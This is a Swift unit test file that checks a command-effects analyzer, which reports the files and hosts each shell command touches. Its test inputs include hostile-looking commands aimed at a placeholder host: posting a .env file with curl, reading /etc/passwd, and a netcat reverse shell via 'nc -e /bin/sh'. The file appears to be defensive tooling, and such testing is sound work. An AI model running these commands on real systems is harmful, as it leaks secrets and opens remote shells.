import Testing

@testable import Effects

/// Which hosts are reached, and what is sent.
@Suite struct NetworkCommandTests {
  @Test(arguments: [
    (
      "curl https://H.Example:8443/a -o out",
      "run curl https://H.Example:8443/a -o out; write out; connect https://h.example:8443"
    ),
    (
      "curl -d @.env https://h.example",
      "run curl -d @.env https://h.example; read .env; connect https://h.example"
    ),
    (
      "curl -F f=@a -T b h.example",
      "run curl -F f=@a -T b h.example; read b; connect http://h.example; read a"
    ),
    (
      "curl --upload-file a https://h.example",
      "run curl --upload-file a https://h.example; read a; connect https://h.example"
    ),
    ("curl file:///etc/passwd", "run curl file:///etc/passwd; read /etc/passwd"),
    (
      "curl -K conf https://h.example",
      "run curl -K conf https://h.example; opaque; connect https://h.example"
    ),
    (#"curl "$URL""#, #"run curl "$URL"; opaque"#),
    (
      "curl --new-option .env https://h.example",
      "run curl --new-option .env https://h.example; read .env *; connect http://.env; connect https://h.example"
    ),
    (
      "wget -O out https://h.example/x",
      "run wget -O out https://h.example/x; write out; connect https://h.example"
    ),
    ("nc h.example 80", "run nc h.example 80; connect tcp://h.example:80"),
    ("nc -l 80", "run nc -l 80; opaque"),
    ("nc -e /bin/sh h.example 80", "run nc -e /bin/sh h.example 80; opaque; connect tcp://h.example:80"),
    ("scp a dev@h.example:b", "run scp a dev@h.example:b; read a; connect ssh://h.example"),
    ("scp h:a docs", "run scp h:a docs; connect ssh://h; write docs"),
    ("ping h.example", "run ping h.example; connect tcp://h.example"),
  ])
  func effects(line: String, expected: String) {
    #expect(CommandWorld.summary(line) == expected)
  }
}
